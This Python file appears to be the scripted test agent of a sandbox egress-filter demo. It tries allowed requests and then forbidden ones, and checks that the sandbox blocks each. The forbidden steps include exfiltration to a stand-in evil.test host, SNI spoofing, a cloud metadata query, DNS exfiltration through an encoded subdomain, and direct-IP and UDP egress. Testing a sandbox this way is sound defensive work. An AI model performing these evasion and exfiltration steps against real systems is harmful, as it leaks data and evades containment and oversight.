"""The scripted "agent" of `sandgate demo`: runs inside the sandbox
(`python3 -I agent.py`, stdlib only: it is the task), tries allowed and forbidden things
with ordinary clients, and prints what happened. Standard library only."""

from __future__ import annotations

import socket
import ssl
import sys
import urllib.error
import urllib.request

# (what the agent tries, how, whether the demo rules should let it through)
AGENT_STEPS = [
    (
        "install a package: GET https://allowed.test/simple/",
        "https",
        "https://allowed.test/simple/",
        True,
    ),
    (
        "plain HTTP download: http://allowed.test/pkg.tar.gz",
        "https",
        "http://allowed.test/pkg.tar.gz",
        True,
    ),
    (
        "read the API: GET https://api.allowed.test/public/repo",
        "https",
        "https://api.allowed.test/public/repo",
        True,
    ),
    (
        "write to the API: POST https://api.allowed.test/public/repo",
        "post",
        "https://api.allowed.test/public/repo",
        False,
    ),
    (
        "exfiltrate to an unknown site: https://evil.test/",
        "https",
        "https://evil.test/upload",
        False,
    ),
    ("skip DNS, use the IP: https://203.0.113.66/", "https", "https://203.0.113.66/", False),
    ("spoof SNI: TLS to 203.0.113.66 claiming allowed.test", "sni", "203.0.113.66", False),
    (
        "cloud metadata: http://169.254.169.254/latest/meta-data/",
        "https",
        "http://169.254.169.254/latest/meta-data/",
        False,
    ),
    ("DNS exfiltration: resolve c2VjcmV0.evil.test", "dns", "c2VjcmV0.evil.test", False),
    ("UDP out: a datagram to 203.0.113.66:9999", "udp", "203.0.113.66", False),
]


def agent() -> int:
    """Runs inside the sandbox: each step prints ALLOWED or BLOCKED and why."""
    surprises = 0
    for title, how, target, expected in AGENT_STEPS:
        try:
            passed, detail = _TRY[how](target)
        except Exception as e:  # noqa: BLE001 - any failure of the client is "blocked"
            passed, detail = False, f"{type(e).__name__}: {e}"
        mark = "ALLOWED" if passed else "BLOCKED"
        ok = "" if passed == expected else "   <-- unexpected!"
        surprises += passed != expected
        print(f"  {mark:8} {title}\n           {detail[:110]}{ok}", flush=True)
    return 1 if surprises else 0


def _try_url(url: str, method: str = "GET") -> tuple[bool, str]:
    request = urllib.request.Request(url, method=method, data=b"x" if method == "POST" else None)
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return (
                True,
                f"HTTP {response.status}: {response.read(200).decode(errors='replace').strip()}",
            )
    except urllib.error.HTTPError as e:
        body = e.read().decode(errors="replace")
        reason = next((line for line in body.splitlines() if line.startswith("reason:")), "")
        return False, f"HTTP {e.code} from sandgate, {reason}"


def _try_sni_spoof(ip: str) -> tuple[bool, str]:
    context = ssl.create_default_context()
    with (
        socket.create_connection((ip, 443), timeout=5) as raw,
        context.wrap_socket(raw, server_hostname="allowed.test") as tls,
    ):
        return True, f"handshake completed with {tls.getpeercert()['subject']}"


def _try_dns(name: str) -> tuple[bool, str]:
    try:
        return True, f"resolved to {socket.gethostbyname(name)}"
    except socket.gaierror as e:
        return False, f"resolution failed: {e.strerror}"


def _try_udp(ip: str) -> tuple[bool, str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"ping", (ip, 9999))
        try:
            return True, f"reply {s.recv(100)!r}"
        except TimeoutError:
            return (
                False,
                "no reply (dropped by the firewall; the demo checks the server saw nothing)",
            )


_TRY = {
    "https": _try_url,
    "post": lambda url: _try_url(url, "POST"),
    "sni": _try_sni_spoof,
    "dns": _try_dns,
    "udp": _try_udp,
}


if __name__ == "__main__":
    sys.exit(agent())
